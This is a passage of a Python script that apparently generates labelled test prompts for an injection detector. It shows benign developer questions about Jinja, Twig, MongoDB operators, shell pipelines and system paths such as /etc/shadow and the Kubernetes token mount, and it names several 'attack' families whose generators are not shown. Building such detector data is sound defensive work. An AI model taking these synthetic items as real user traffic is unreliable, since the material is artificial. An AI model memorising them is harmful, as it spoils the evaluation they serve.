    field = _pick(rng, "price", "total", "qty", "user.age", "item.count")
    return _pick(rng, f"my jinja template {{{{ {field} * 1.2 }}}} shows nothing, is the variable missing?",
                 f"In Twig how do I format {{{{ {field}|number_format(2) }}}} with a comma?",
                 f"FreeMarker prints ${{{field}}} as 1,000 with a comma, how do I turn that off?",
                 f"ERB: <%= @{field.split('.')[0]}.name %> works in the view but not in the mailer",
                 f"Pug interpolation #{{{field}}} escapes my HTML, which syntax keeps it?",
                 f"Thymeleaf [[${{{field}}}]] vs th:text, which one should I use?",
                 f"Django: can I do {{{{ {field}|add:1 }}}} in a template or should the view compute it?",
                 f"Velocity #set($total = ${field.split('.')[0]}.price * 2) gives null",
                 f"Razor @({field} * 2) renders the expression literally in my .cshtml")


def dev_mongo(rng: random.Random, e: Inner) -> str:
    age = rng.randint(13, 70)
    return _pick(rng, "Is $where deprecated in MongoDB 7? the docs say to use $expr",
                 f"db.users.find({{ age: {{ $gt: {age} }} }}) returns nothing but the users exist",
                 "how do I use $regex with the i option in a find?",
                 "$expr with $gt to compare two fields of the same document, is there an index for that?",
                 f"mongoose: User.find({{ age: {{ $gte: {age} }} }}).limit(10) is slow",
                 "Why is $function disabled on Atlas shared clusters?",
                 "mapReduce is deprecated, what replaces it, $group?")


def dev_paths(rng: random.Random, e: Inner) -> str:
    return _pick(rng, "where is /etc/nginx/nginx.conf on Ubuntu 22.04?",
                 "what permissions should /etc/shadow have, 640?",
                 "the journal in /var/log/syslog fills my disk, how do I rotate it?",
                 "I edited C:\\Windows\\System32\\drivers\\etc\\hosts but Chrome ignores it",
                 "my ~/.ssh/config has Host github.com, but git still asks for a password",
                 "Kubernetes mounts the token at /var/run/secrets/kubernetes.io/serviceaccount, can I turn that off?",
                 "is /proc/self/exe a link to the running binary on every Linux?",
                 "Docker says permission denied on /var/run/docker.sock, should I add my user to the docker group?",
                 "Where does Python look for site-packages, /usr/lib/python3/dist-packages?")


def dev_pipelines(rng: random.Random, e: Inner) -> str:
    port = rng.choice((3000, 5432, 8080, 6379))
    return _pick(rng, "ps aux | grep node shows two processes, which one is mine?",
                 f"lsof -i :{port} | grep LISTEN says nothing but the port is busy",
                 "cat access.log | awk '{print $1}' | sort | uniq -c | sort -rn, is there a shorter way?",
                 "curl -s https://api.github.com/repos/x/y | jq .stargazers_count prints null",
                 "I ran sudo apt update && sudo apt upgrade and now docker won't start",
                 "cd build; make -j4 fails at 80% with an out of memory error",
                 "git stash && git pull --rebase && git stash pop, any shorter way?",
                 f"docker ps -q | xargs docker stop stops everything, how do I keep the db on {port}?",
                 "what's the difference between cmd1 ; cmd2 and cmd1 && cmd2 in bash?")


DEVELOPERS = {"variables": dev_variables, "globs": dev_globs, "sql": dev_sql, "templates": dev_templates,
              "mongo": dev_mongo, "paths": dev_paths, "pipelines": dev_pipelines}
DEVELOPERS_INNER = (Inner("plain"), Inner("as-typed"))


FAMILIES = (
    Family("shell-glob", "attack", GLOB, SHELL_INNER),
    Family("shell-brace", "attack", BRACE, BRACE_INNER),
    Family("shell-bare", "attack", BARE, BARE_INNER),
    Family("sql-literals", "attack", SQL_LITERALS, SQL_INNER),
    Family("template-arithmetic", "attack", TEMPLATE, TEMPLATE_INNER),
    Family("mongo-javascript", "attack", MONGO, MONGO_INNER),
    Family("absolute-paths", "attack", PATHS, PATH_INNER),
    Family("developers", "benign", DEVELOPERS, DEVELOPERS_INNER, outer=False),
)


if __name__ == "__main__":
    main(FAMILIES, __doc__.splitlines()[0])
